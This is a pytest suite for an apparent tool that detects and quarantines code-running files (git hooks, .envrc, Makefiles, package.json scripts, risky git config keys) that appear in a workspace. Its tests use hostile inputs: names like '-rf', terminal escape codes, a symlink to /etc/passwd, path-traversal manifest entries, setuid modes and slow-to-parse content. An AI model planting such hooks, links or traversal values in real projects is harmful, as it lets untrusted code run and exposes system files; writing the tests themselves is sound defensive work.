def test_a_copy_of_a_repository_elsewhere_is_told(root: Path, project: Path) -> None:
    found = told(root, lambda: shutil.copytree(project, root / "copy"))
    assert set(found) == {"copy/.git/hooks/pre-commit", "copy/Makefile", "copy/package.json"}


# Hostile trees

NAMES = (b"new\nline", b"\xff\xfe", b" ", b"-rf", b"\x1b[2J", b"\\", b"*", b"**", "é\u202e".encode())


@pytest.mark.parametrize("name", NAMES)
def test_names_of_any_bytes_are_told_and_cannot_steer_a_terminal(root: Path, name: bytes) -> None:
    text = os.fsdecode(name)

    def act() -> None:
        put(root / text / ".envrc", b"\x1b]0;x\x07\xff\n")
        put(root / ".git" / "hooks" / text, "a")

    found = made(root, act)
    assert {change.path for change in found} == {f"{text}/.envrc", f".git/hooks/{text}"}
    assert all(line.isprintable() for line in changes.report(found).split("\n"))


def special_files(folder: Path) -> Iterator[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "fifo")
    yield folder / "fifo"
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind(os.path.relpath(folder / "socket"))
    yield folder / "socket"


@pytest.mark.parametrize(
    "name",
    [".envrc", ".git/config", ".git/hooks/x", "package.json", ".git", ".git/commondir", ".gitattributes"],
)
@pytest.mark.parametrize("kind", [0, 1], ids=["fifo", "socket"])
def test_a_special_file_neither_hangs_nor_stops_the_search(
    root: Path, tmp_path: Path, name: str, kind: int
) -> None:
    def act() -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        list(special_files(tmp_path / "made"))[kind].rename(root / name)
        put(root / "z" / ".envrc", "a")

    found = made(root, act)
    assert {change.path: change.lines for change in found} == {name: ("is not a file",), "z/.envrc": ("a",)}
    outcomes = kept.put_away(str(root), found, str(tmp_path / "q"))
    assert {outcome.what for outcome in outcomes} == {"moved"}
    assert changes.compare(EMPTY, walk.search(str(root))) == ()


EMPTY = snapshot.Snapshot({}, ())


@pytest.mark.parametrize("name", [".envrc", ".git", ".vscode", ".git/hooks", ".git/config", "HEAD"])
def test_links_in_a_circle_end(root: Path, name: str) -> None:
    put(root / "objects")
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).symlink_to(Path(name).name)
    (root / "up").symlink_to(".")
    assert not walk.search(str(root)).unseen


def test_a_workspace_that_is_itself_all_it_can_be(root: Path) -> None:
    put(root / ".git", "gitdir: .")
    put(root / "commondir", ".")
    put(root / "HEAD", "ref: x")
    put(root / "config", "[core]\nworktree = .\nhooksPath = .\n[include]\npath = config\n")
    put(root / "hooks" / "x", "a")
    found = walk.search(str(root))
    assert {"hooks/x", "config", ".git"} <= set(found.items)
    assert not found.unseen


HOSTILE = {
    ".vscode/settings.json": ['"' + '\\"' * 120_000 + "\\", "/*" * 60_000, ",/*" * 40_000, ', "' * 40_000,
                              "{" * 100_000],
    ".git/config": [
        "[a]\nb = " + '"\\"' * 40_000, "[alias]\n" + "a=x\n" * 50_000, '[a "' + "\\" * 100_000,
        "[alias]\n" + "".join(f"a{number}=x\n" for number in range(20_000)),
        "[include]\n" + "path=/a/b/c/d/e/f/g\n" * 10_000, "[include]\npath=/" + "a/" * 60_000,
        "[core]\n" + "".join(f"hooksPath=a{number}\n" for number in range(10_000)),
        "[core]\n" + "".join(f"worktree=a{number}\n" for number in range(10_000)),
    ],
    ".git/commondir": ["/" * 200_000, "a/" * 100_000, "\0"],
    ".git": ["gitdir: " + "../" * 60_000, "gitdir: a\0b", ""],
    ".gitattributes": [" filter" * 20_000, " filter=\n" * 20_000],
    "package.json": ['{"scripts":' * 20_000, json.dumps({"scripts": {str(n): "x" for n in range(10_000)}})],
    "pyproject.toml": ["backend-path\n" + "[a." * 50_000, "a = '\\'\n" + "a." * 100_000],
    "Makefile": ["x\n" * 500_000, "x" * 1_000_000, "".join(f"{number}\n" for number in range(200_000))],
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "number"),
    [(name, number) for name, contents in HOSTILE.items() for number in range(len(contents))],
)
def test_content_made_to_take_long_does_not(root: Path, tmp_path: Path, name: str, number: int) -> None:
    put(root / name, HOSTILE[name][number])
    start = time.process_time()
    found = changes.compare(EMPTY, walk.search(str(root)))
    assert len(changes.report(found)) < 5000
    kept.put_away(str(root), found, str(tmp_path / "q"))
    assert changes.compare(EMPTY, walk.search(str(root)))[:1] in ((), (unseen(root),))
    assert time.process_time() - start < 20


def unseen(root: Path) -> Change | None:
    found = changes.compare(EMPTY, walk.search(str(root)))
    return found[0] if found and found[0].what == "unseen" else None


@pytest.mark.parametrize(
    ("limit", "value"),
    [("MAX_DEPTH", 2), ("MAX_FOLDERS", 3), ("MAX_ENTRIES", 3), ("MAX_ITEMS", 1), ("MAX_LEADS", 0)],
)
def test_where_a_limit_ends_the_search_it_says_so(
    root: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
) -> None:
    put(root / "a" / "b" / "c" / "d" / ".envrc", "a")
    put(root / ".envrc", "a")
    (root / ".vimrc").symlink_to(".envrc")
    assert not walk.search(str(root)).unseen
    monkeypatch.setattr(walk, limit, value)
    found = walk.search(str(root))
    assert found.unseen
    *_, last = changes.compare(found, found)
    assert last.what == "unseen"
    assert "not searched" in changes.report([last])


@pytest.mark.parametrize(("limit", "value"), [("MAX_FILE", 10), ("MAX_READ", 10)])
def test_a_file_too_large_to_read_is_told_when_it_changes(
    root: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
) -> None:
    monkeypatch.setattr(walk, limit, value)
    put(root / ".envrc", "a" * 100)
    assert told(root, lambda: None) == {}
    os.utime(root / ".envrc", (0, 0))
    before = (root / ".envrc").stat()

    def act() -> None:
        put(root / ".envrc", "b" * 100)
        os.utime(root / ".envrc", ns=(before.st_atime_ns, before.st_mtime_ns))

    ((path, (what, (line,))),) = told(root, act).items()
    assert (path, what, line) == (".envrc", "changed", "is too large to show, or not readable (100 bytes)")


@pytest.mark.as_user
def test_what_may_not_be_read_is_told(root: Path) -> None:
    put(root / ".envrc", "a", 0)
    put(root / "a" / ".envrc").parent.chmod(0)
    try:
        found = changes.compare(EMPTY, walk.search(str(root)))
    finally:
        (root / "a").chmod(0o700)
    assert [(change.path, change.what) for change in found] == [(".envrc", "added"), ("", "unseen")]
    assert found[1].lines == ("a",)


def test_a_search_leaves_no_descriptor_open(root: Path, project: Path, tmp_path: Path) -> None:
    put(project / ".envrc", "a")
    before = os.listdir("/proc/self/fd")  # noqa: PTH208
    found = changes.compare(EMPTY, walk.search(str(root)))
    kept.put_away(str(root), found, str(tmp_path / "q"))
    kept.accept(str(root), str(tmp_path / "q"))
    assert os.listdir("/proc/self/fd") == before  # noqa: PTH208


# The report

ANY = st.text(st.characters())


CHANGE = st.tuples(ANY, st.sampled_from(["added", "unseen"]), ANY, st.lists(ANY).map(tuple))


@given(st.lists(CHANGE.map(lambda fields: Change(*fields))))
def test_a_report_is_printable_whatever_it_quotes(found: list[Change]) -> None:
    assert all(line.isprintable() for line in changes.report(found).split("\n"))


def test_a_report_is_capped_and_says_what_it_leaves_out(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(walk, "MAX_DEPTH", 1)

    def act() -> None:
        for number in range(changes.MAX_CHANGES + 3):
            put(root / f"a{number:03}" / ".envrc", "x\n" * 5 + "".join(f"{n}\n" for n in range(100)))
        put(root / "a" / "b" / "c")

    report = changes.report(made(root, act)).split("\n")
    assert "and 3 more" in report
    assert "    … and 97 more" in report
    assert report[-2].startswith("unseen: not searched")
    assert report[-1] == "    a/b"
    assert len(report) < 250


def test_the_form_of_a_report(root: Path) -> None:
    def act() -> None:
        put(root / ".envrc", "\x1b[2J\tcurl\n\n\nsh\n")
        put(root / "Makefile", "y" * 1000)
        put(root / "gradle" / "wrapper" / "x.jar", b"PK\0\0")

    assert changes.report(made(root, act)) == (
        "added .envrc: direnv runs it on entering the folder\n"
        "    \\x1b[2J    curl\n"
        "    sh\n"
        "added gradle/wrapper/x.jar: the build tool runs what it names\n"
        "    is not text (4 bytes)\n"
        "added Makefile: make runs it, if you ask for it\n"
        f"    {'y' * changes.MAX_WIDTH}… (1000 characters)"
    )


def test_no_change_is_no_report() -> None:
    assert changes.report(()) == ""


# The quarantine


def everything(root: Path) -> dict[str, tuple[int, bytes]]:
    found = {}
    for path in root.rglob("*"):
        status = path.lstat()
        if stat.S_ISLNK(status.st_mode):
            found[str(path)] = (status.st_mode, os.fsencode(path.readlink()))
        elif stat.S_ISREG(status.st_mode):
            found[str(path)] = (status.st_mode, path.read_bytes())
    return found


def attack(project: Path) -> None:
    put(project / ".git" / "hooks" / "pre-commit", HOOK, 0o755)
    put(project / ".git" / "hooks" / "post\n\udcffx", HOOK, 0o755)
    put(project / "Makefile", "all: evil\n", 0o600)
    put(project / ".envrc", "evil")
    (project / ".vimrc").symlink_to("/etc/passwd")
    (project / "setup.py").symlink_to("src/main.py")
    put(project / "package.json", '{"scripts": {"test": "evil"}, "version": "2"}')


def test_what_is_taken_away_is_gone_and_comes_back_when_it_is_accepted(
    root: Path, project: Path, tmp_path: Path
) -> None:
    calm, before = everything(root), walk.search(str(root))
    attack(project)
    attacked = everything(root)
    found = changes.compare(before, walk.search(str(root)))
    folder = tmp_path / "data" / "quarantine" / "1"
    outcomes = kept.put_away(str(root), found, str(folder))
    assert {outcome.what for outcome in outcomes} == {"moved", "restored"}
    assert everything(root) == calm
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    accepted = kept.accept(str(root), str(folder))
    assert {outcome.what for outcome in accepted} == {"accepted"}
    assert everything(root) == attacked
    assert not folder.exists()


def test_of_a_git_configuration_only_what_runs_is_put_back(root: Path, project: Path, tmp_path: Path) -> None:
    git(project, "config", "core.editor", "mine")
    git(project, "config", "core.pager", "less")
    git(project, "config", "diff.x.textconv", 'a\\b"c\td')

    def act() -> None:
        git(project, "config", "core.editor", "evil")
        git(project, "config", "core.fsmonitor", "evil")
        git(project, "config", "alias.x", "!evil")
        git(project, "config", "diff.x.textconv", "evil")
        git(project, "config", "user.name", "new")
        git(project, "remote", "add", "origin", "u")

    kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    listed = dict(line.split("=", 1) for line in git(project, "config", "--local", "--list").splitlines())
    assert listed["core.editor"] == "mine"
    assert listed["core.pager"] == "less"
    assert listed["diff.x.textconv"] == 'a\\b"c\td'
    assert listed["user.name"] == "new"
    assert listed["remote.origin.url"] == "u"
    assert {"core.fsmonitor", "alias.x"}.isdisjoint(listed)
    kept.accept(str(root), str(tmp_path / "q"))
    assert git(project, "config", "core.fsmonitor") == "evil\n"


def test_a_new_repository_keeps_its_configuration_but_for_what_runs(root: Path, tmp_path: Path) -> None:
    def act() -> None:
        git(root, "init", "-q", "new")
        git(root / "new", "config", "core.sshCommand", "evil")

    (outcome,) = kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    assert outcome == ("new/.git/config", "restored", "")
    assert git(root / "new", "config", "--list", "--local").count("core.") >= 3
    assert "sshcommand" not in git(root / "new", "config", "--list", "--local")


def test_a_configuration_that_cannot_be_read_is_replaced_as_a_whole(
    root: Path, project: Path, tmp_path: Path
) -> None:
    config = project / ".git" / "config"
    former = config.read_bytes()
    found = made(root, lambda: config.write_text("[core]\nfsmonitor = evil\n!"))
    kept.put_away(str(root), found, str(tmp_path / "q"))
    assert config.read_bytes() == former


@pytest.mark.parametrize("limit", ["MAX_FILE", "MAX_READ"])
def test_what_was_too_large_to_keep_stays_and_is_told(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str
) -> None:
    monkeypatch.setattr(walk, limit, 10)
    put(root / ".envrc", "a" * 100)
    (outcome,) = kept.put_away(
        str(root), made(root, lambda: put(root / ".envrc", "b" * 101)), str(tmp_path / "q")
    )
    why = "too large to put back what was there before: look at it yourself"
    assert outcome == (".envrc", "failed", why)
    assert (root / ".envrc").read_text() == "b" * 101


def test_what_cannot_be_copied_gets_another_name_and_comes_back(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(kept, "MAX_COPY", 100)

    def act() -> None:
        put(root / ".envrc", "b" * 101)
        os.mkfifo(root / ".vimrc")

    kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    assert changes.compare(EMPTY, walk.search(str(root))) == ()
    assert len(list(root.iterdir())) == 2
    kept.accept(str(root), str(tmp_path / "q"))
    assert (root / ".envrc").read_text() == "b" * 101
    assert (root / ".vimrc").is_fifo()


def test_a_hard_link_to_a_file_that_is_put_back_does_not_change(
    root: Path, project: Path, tmp_path: Path
) -> None:
    def act() -> None:
        put(project / "Makefile", "evil\n")
        (root / "other").hardlink_to(project / "Makefile")

    kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    assert (root / "other").read_text() == "evil\n"
    assert (project / "Makefile").read_text() == "all:\n\techo\n"


@pytest.mark.as_user
def test_a_locked_folder_and_a_locked_file_do_not_keep_what_runs(root: Path, tmp_path: Path) -> None:
    def act() -> None:
        put(root / "a" / ".envrc", "a", 0).parent.chmod(0o500)

    (outcome,) = kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    assert outcome.what == "moved"
    assert not (root / "a" / ".envrc").exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (".git/config", "[core]\nhooksPath = src\n"),
        (".git/config", "[include]\npath = ../own\n"),
        (".git/hooks/pre-push", ""),
        (".vscode", ""),
        ("HEAD", "ref: x"),
    ],
)
def test_what_is_the_users_and_only_led_to_stays(
    root: Path, project: Path, tmp_path: Path, name: str, content: str
) -> None:
    put(project / "own", "[core]\npager = mine\n")
    put(project / "src" / "tasks.json", "{}")
    put(project / "hooks" / "use.js", "export\n")
    put(project / "objects" / "x")
    calm = everything(root)

    def act() -> None:
        if content:
            put(project / name, content)
        else:
            (project / name).symlink_to("../../own" if "hooks" in name else "src")

    found = made(root, act)
    assert len(found) > 1
    kept.put_away(str(root), found, str(tmp_path / "q"))
    if name == ".git/config":
        del calm[str(project / name)]
        assert (project / name).read_text() in ("[core]\n", "[include]\n")
        (project / name).unlink()
    assert everything(root) == calm


@pytest.mark.parametrize("setting", ["core.hooksPath", "include.path"])
def test_what_the_users_own_settings_lead_to_does_not_stay(
    root: Path, project: Path, tmp_path: Path, setting: str
) -> None:
    git(project, "config", setting, "tools" if "hooks" in setting else "../tools/pre-push")

    def act() -> None:
        put(project / "tools" / "pre-push", "[core]\npager = evil\n")
        git(project, "config", "core.editor", "evil")

    found = made(root, act)
    assert {change.path for change in found} == {"project/.git/config", "project/tools/pre-push"}
    kept.put_away(str(root), found, str(tmp_path / "q"))
    assert "evil" not in "".join(path.read_text() for path in (project / "tools").iterdir())


def test_what_is_led_to_but_risky_by_its_name_does_not_stay(root: Path, tmp_path: Path) -> None:
    put(root / ".git" / "HEAD")

    def act() -> None:
        put(root / "a" / "b" / "c" / ".envrc", "evil")
        put(root / ".git" / "hooks" / "x").unlink()
        (root / ".git" / "hooks" / "x").symlink_to("../../a/b/c/.envrc")

    kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    assert not (root / "a" / "b" / "c" / ".envrc").exists()


def test_a_folder_swapped_for_a_link_is_not_followed(root: Path, tmp_path: Path) -> None:
    outside = put(tmp_path / "outside" / ".envrc", "mine").parent
    found = made(root, lambda: put(root / "a" / "b" / ".envrc", "evil"))
    shutil.rmtree(root / "a")
    (root / "a").mkdir()
    (root / "a" / "b").symlink_to(outside)
    (outcome,) = kept.put_away(str(root), found, str(tmp_path / "q"))
    assert outcome.what == "failed"
    assert (outside / ".envrc").read_text() == "mine"


@pytest.mark.parametrize("name", ["workspace/q", "workspace/a/q", "taken", "link"])
def test_a_quarantine_is_a_new_folder_outside_of_the_workspace(root: Path, tmp_path: Path, name: str) -> None:
    (tmp_path / "taken").mkdir()
    (tmp_path / "link").symlink_to("elsewhere")
    found = made(root, lambda: put(root / ".envrc", "evil"))
    with pytest.raises(OSError, match=r"exists|in the workspace"):
        kept.put_away(str(root), found, str(tmp_path / name))
    assert (root / ".envrc").exists()


def test_unseen_places_are_nothing_to_take_away(root: Path, tmp_path: Path) -> None:
    found = changes.compare(EMPTY, snapshot.Snapshot({}, ("a",)))
    assert kept.put_away(str(root), found, str(tmp_path / "q")) == ()


def test_what_somebody_has_written_since_is_not_overwritten(
    root: Path, project: Path, tmp_path: Path
) -> None:
    def act() -> None:
        put(project / "Makefile", "evil\n")
        put(project / ".envrc", "evil")
        put(project / ".vimrc", "evil")

    kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    put(project / "Makefile", "mine\n")
    put(project / ".envrc", "mine")
    outcomes = {outcome.path: outcome.what for outcome in kept.accept(str(root), str(tmp_path / "q"))}
    assert outcomes == {
        "project/Makefile": "failed",
        "project/.envrc": "failed",
        "project/.vimrc": "accepted",
    }
    assert (project / "Makefile").read_text() == "mine\n"
    # What failed still waits.
    (project / ".envrc").unlink()
    again = {outcome.path: outcome.what for outcome in kept.accept(str(root), str(tmp_path / "q"))}
    assert again == {"project/Makefile": "failed", "project/.envrc": "accepted"}


@pytest.mark.parametrize(
    "change",
    [
        {"path": "../outside"}, {"path": "/outside"}, {"path": "a/../../outside"}, {"path": ""},
        {"path": "a\0"}, {"path": 1}, {"kept": "../../outside"}, {"kept": "manifest.json"}, {"kept": ""},
        {"kept": 0}, {"mode": "x"}, {"left": None}, {"more": 1},
    ],
)  # fmt: skip
def test_a_manifest_that_was_tampered_with_is_refused(
    root: Path, tmp_path: Path, change: dict[str, object]
) -> None:
    kept.put_away(str(root), made(root, lambda: put(root / ".envrc", "evil")), str(tmp_path / "q"))
    manifest = tmp_path / "q" / "manifest.json"
    (entry,) = json.loads(manifest.read_text())
    manifest.write_text(json.dumps([{**entry, **change}]))
    with pytest.raises(ValueError, match="none of ours"):
        kept.accept(str(root), str(tmp_path / "q"))


@pytest.mark.parametrize("content", ["", "{}x", "1", "[1]", '{"a": 1}', "[" * 100_000, b"\xff"])
def test_a_manifest_that_is_none_is_refused(root: Path, tmp_path: Path, content: str | bytes) -> None:
    put(tmp_path / "q" / "manifest.json", content)
    with pytest.raises(ValueError, match="none of ours"):
        kept.accept(str(root), str(tmp_path / "q"))


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: path.symlink_to("0")])
def test_a_manifest_that_is_no_file_is_refused(
    root: Path, tmp_path: Path, make: Callable[[Path], object]
) -> None:
    put(tmp_path / "q" / "0", "[]")
    make(tmp_path / "q" / "manifest.json")
    with pytest.raises(OSError, match="cannot be read"):
        kept.accept(str(root), str(tmp_path / "q"))


def test_what_is_accepted_never_gets_out_by_a_link(root: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    found = made(root, lambda: put(root / "a" / ".envrc", "evil"))
    kept.put_away(str(root), found, str(tmp_path / "q"))
    (root / "a").rmdir()
    (root / "a").symlink_to(outside)
    (outcome,) = kept.accept(str(root), str(tmp_path / "q"))
    assert outcome.what == "failed"
    assert list(outside.iterdir()) == []


def test_setuid_is_not_given_back(root: Path, tmp_path: Path) -> None:
    def act() -> None:
        put(root / ".envrc", "evil", 0o6755)

    kept.put_away(str(root), made(root, act), str(tmp_path / "q"))
    kept.accept(str(root), str(tmp_path / "q"))
    assert stat.S_IMODE((root / ".envrc").stat().st_mode) == 0o755


# Git's configuration files

PIECES = st.sampled_from([
    "[core]", "[CORE]", '[core "a"]', '[Diff "A.b\\"c"]', "[filter.X]", "[a-b.c]", "[core\t \"x\" ]", "[",
    "]", "[]", '[core "fsmonitor\0"]', '[core "fsmonitor\0.y"]', "fsmonitor", "Key", "k-1", "=", " = ",
    "value", "!",
    '"', '""', '"a b"', '" "', "\\", "\\n", "\\t", "\\b", '\\"', "\\\\", "\\x", "\\\n", "\\\r\n",
    " ", "  ", "\t",
    "\n", "\n", "\n", "\r\n", "\r", "#", ";", "# c", "\ufeff", "\0", "é", "\udcff", "1", "-", ".", "\v", "\f",
])  # fmt: skip
SENSIBLE = st.builds("{}{}{}{}{}".format, st.sampled_from(["[core]", '[a "b"]', ""]), *[PIECES] * 4)
FILES = st.lists(
    st.one_of(PIECES, SENSIBLE, st.sampled_from(["\n[a]", "\nkey = ", '\n[A "b"] c = '])), max_size=20
)


def listed(content: bytes) -> list[tuple[str, str | None]] | None:
    """Return what git reads, or None if it refuses."""
    run = subprocess.run(
        ["git", "config", "-f", "-", "--list", "-z"], input=content, capture_output=True, check=False
    )
    if run.returncode:
        return None
    entries = os.fsdecode(run.stdout).split("\0")[:-1]
    return [
        plain(name, value if line else None) for name, line, value in (e.partition("\n") for e in entries)
    ]


def plain(name: str, value: str | None) -> tuple[str, str | None]:
    # Git 2.45 keeps the kind of blank that older ones turn into a space. Keys are compared in any case.
    head, dot, key = name.rpartition(".")
    return head + dot + key.lower(), value and value.replace("\t", " ").replace("\r", " ")


@settings(max_examples=400)
@given(FILES.map("".join))
def test_the_parser_reads_what_git_reads(text: str) -> None:
    content = text.encode("utf-8", "surrogateescape")
    expected = listed(content)
    if expected is not None:
        assert [plain(entry.name, entry.value) for entry in git_config.parse(content)] == expected


@pytest.mark.parametrize(
    "text",
    [
        "[core]\n\tfsmonitor = x", "[core] fsmonitor=x # c", "[core]fsmonitor",
        "\ufeff[core]\r\nfsmonitor = x\r\n", "[core]\nfsmonitor = a\\\n  b",
        "[a]k = \\\n = ", '[core]\nfsmonitor = "a # b" ; c',
        "[a][core]k=v", "[core.x] k=v",
        '[core "fsmonitor\0"] k = v', "[core]\nk = a\\\n", '[core]\nk = a "" ', "[core]\nk = \\\"a\\\"",
        "[core]\nk = a\\", '[core "\\x\\\\\\""]\nk = v', "[core]\nk=a\rb\r\n", "[core]\nk = a \\\n",
    ],
)  # fmt: skip
def test_the_parser_reads_these_as_git_does(text: str) -> None:
    expected = listed(text.encode())
    assert expected
    assert [plain(entry.name, entry.value) for entry in git_config.parse(text.encode())] == expected


@pytest.mark.parametrize("end", ["", "\n", "\\", "\\\n", " # c", "\n[b]"])
def test_settings_are_put_back_after_any_end(end: str) -> None:
    new = git_config.put_back(f"[a]\nk = v{end}".encode(), ["c.d"], {"c.d": ("e", None)})
    assert listed(new) == [("a.k", "v"), ("c.d", "e"), ("c.d", None)]


@given(FILES.map("".join))
def test_settings_are_taken_out_and_the_others_stay(text: str) -> None:
    content = text.encode("utf-8", "surrogateescape")
    try:
        before = git_config.parse(content)
        names = sorted({entry.name for entry in before})[::2]
        after = git_config.parse(git_config.put_back(content, names, {}))
    except ValueError:
        return
    assert [entry[:2] for entry in after] == [entry[:2] for entry in before if entry.name not in names]


VALUES = st.none() | st.text(st.characters(blacklist_characters="\0\r", blacklist_categories=["Cs"]))


@given(
    FILES.map("".join),
    st.lists(VALUES, min_size=1).map(tuple),
    st.sampled_from(["core.editor", 'diff.a\\".b.c']),
)
def test_settings_are_put_back_so_that_git_reads_them(
    text: str, values: tuple[str | None, ...], name: str
) -> None:
    try:
        new = git_config.put_back(text.encode("utf-8", "surrogateescape"), [name], {name: values})
    except ValueError:
        return
    read = listed(new)
    assert read is None or [value for key, value in read if key == name] == [plain("", v)[1] for v in values]
